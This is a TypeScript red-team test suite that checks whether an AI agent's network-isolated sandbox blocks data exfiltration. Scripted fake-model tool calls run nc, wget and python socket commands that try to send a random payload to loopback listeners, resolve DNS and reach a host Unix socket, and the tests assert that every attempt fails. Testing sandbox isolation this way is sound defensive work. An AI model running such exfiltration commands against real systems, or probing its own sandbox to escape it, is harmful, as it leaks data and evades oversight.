// Red team, threat 6 (MITRE ATT&CK T1041, T1048): with network `none` nothing leaves the
// sandbox. This workplace flags traffic to any address outside 127.0.0.0/8, so the attacks
// only ever aim at loopback; that no other address is reachable is proven from the sandbox's
// interfaces and routes, and the one lookup that asks the configured resolver runs only after
// the model has seen that the sandbox has no route anywhere.
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { createServer, type Server } from 'node:net';
import { randomBytes } from 'node:crypto';
import { describe, it } from 'node:test';
import { DEBIAN_IMAGE } from '../support/docker.ts';
import type { ScriptStep } from '../support/fake-model-server.ts';
import {
  attackCheckout,
  checkoutTarget,
  concludeAttack,
  latestResults,
  runAttack,
  shell,
  useServices,
} from '../support/redteam.ts';

const NETWORK_LOOK =
  'echo "== route"; cat /proc/net/route; echo "== ipv6_route"; cat /proc/net/ipv6_route; ' +
  'echo "== interfaces"; ls /sys/class/net';

/** Whether the sandbox has nothing but `lo` and no IPv4 route, as the look above prints it. */
function hasOnlyLoopback(look: string): boolean {
  const section = (name: string) =>
    (new RegExp(`== ${name}\\n([\\s\\S]*?)(?:\\n== |$)`).exec(look)?.[1] ?? '')
      .split('\n')
      .filter((line) => line.trim() !== '');
  const routes = section('route').slice(1); // the header line
  const ipv6 = section('ipv6_route').filter((line) => !/\slo$/.test(line));
  const interfaces = section('interfaces');
  return routes.length === 0 && ipv6.length === 0 && interfaces.join(',') === 'lo';
}

interface CountingServer {
  readonly port: number;
  readonly connections: () => number;
  close(): Promise<void>;
}

async function listenCounting(where: number | string): Promise<CountingServer> {
  let connections = 0;
  const server: Server = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => {
    if (typeof where === 'string') server.listen(where, resolve);
    else server.listen(where, '127.0.0.1', resolve);
  });
  const address = server.address();
  return {
    port: typeof address === 'object' && address ? address.port : 0,
    connections: () => connections,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

describe('red team: exfiltration (T1041, T1048)', () => {
  const services = useServices();

  it('has only the loopback interface and an empty route table', async () => {
    const attack = await attackCheckout(services, {
      script: [{ toolCalls: [shell('look', NETWORK_LOOK)] }, { content: 'Offline.' }],
    });
    const look = attack.result('look');
    assert.match(look, /== route\nIface\tDestination/, 'the route table was read');
    assert.ok(hasOnlyLoopback(look), look);
    await concludeAttack(attack);
  });

  it('cannot resolve a name, once it has seen that there is no route', async () => {
    const target = await checkoutTarget();
    const lookups = [
      'getent hosts example.com; echo "getent: $?"',
      'python3 -c "import socket; print(socket.getaddrinfo(\'example.com\', 443))" 2>&1 | tail -1',
    ].join('; ');
    const script: ScriptStep[] = [
      { toolCalls: [shell('look', NETWORK_LOOK)] },
      (request) =>
        hasOnlyLoopback(latestResults(request).get('look') ?? '')
          ? { toolCalls: [shell('dns', lookups)] }
          : { content: 'The sandbox has a network; not trying.' },
      { content: 'No DNS.' },
    ];
    const attack = await runAttack(services, target, {
      script,
      inputs: { image: DEBIAN_IMAGE },
    });
    const seen = attack.result('dns');
    assert.match(seen, /getent: 2/);
    assert.match(seen, /socket\.gaierror/);
    assert.doesNotMatch(seen, /\d+\.\d+\.\d+\.\d+/, 'an address was resolved');
    await concludeAttack(attack);
  });

  it("cannot reach a TCP or UDP service on the host's loopback", async () => {
    const target = await checkoutTarget();
    const tcp = await listenCounting(0);
    const udp = createSocket('udp4');
    let datagrams = 0;
    udp.on('message', () => (datagrams += 1));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    const udpPort = udp.address().port;
    const githubPort = new URL(services.github.url).port;
    const githubBefore = services.github.requests.length;
    const payload = randomBytes(8).toString('hex');
    const tries = [
      `echo ${payload} | nc -w 2 127.0.0.1 ${tcp.port}; echo "nc: $?"`,
      `wget -T 2 -q -O- --post-data=${payload} http://localhost:${tcp.port}/; echo "wget: $?"`,
      `wget -T 2 -q -O- http://127.0.0.1:${githubPort}/repos/octo-org/demo; echo "github: $?"`,
      `echo ${payload} | nc -u -w 1 127.0.0.1 ${udpPort}; echo "udp: $?"`,
      `nslookup example.com 127.0.0.1; echo "nslookup: $?"`,
    ];
    const attack = await runAttack(services, target, {
      script: [
        { toolCalls: tries.map((cmd, i) => shell(`try-${i}`, cmd)) },
        { content: 'Nothing got out.' },
      ],
    });
    await new Promise((resolve) => setTimeout(resolve, 200));
    assert.equal(tcp.connections(), 0, 'the host service was reached');
    assert.equal(datagrams, 0, 'a datagram reached the host');
    assert.equal(services.github.requests.length, githubBefore, 'the GitHub stand-in was reached');
    assert.deepEqual(attack.model.violations, []);
    for (const [i, name] of ['nc', 'wget', 'github', 'nslookup'].entries()) {
      const id = i === 3 ? 'try-4' : `try-${i}`;
      assert.match(attack.result(id), new RegExp(`${name}: [1-9]`), attack.result(id));
    }
    await tcp.close();
    udp.close();
    await concludeAttack(attack);
  });

  it("cannot connect to an abstract Unix socket in the host's network namespace", async () => {
    const target = await checkoutTarget();
    const name = `redteam-${randomBytes(6).toString('hex')}`;
    const host = await listenCounting(`\0${name}`);
    const connect =
      'import socket; s = socket.socket(socket.AF_UNIX); ' +
      `s.connect("\\0${name}"); s.sendall(b"leak"); print("connected")`;
    const attack = await runAttack(services, target, {
      script: [
        { toolCalls: [shell('connect', `python3 -c '${connect}' 2>&1 | tail -1`)] },
        { content: 'Nothing got out.' },
      ],
      inputs: { image: DEBIAN_IMAGE },
    });
    assert.match(attack.result('connect'), /ConnectionRefusedError|FileNotFoundError/);
    assert.equal(host.connections(), 0, 'the host socket was reached');
    await host.close();
    await concludeAttack(attack);
  });
});
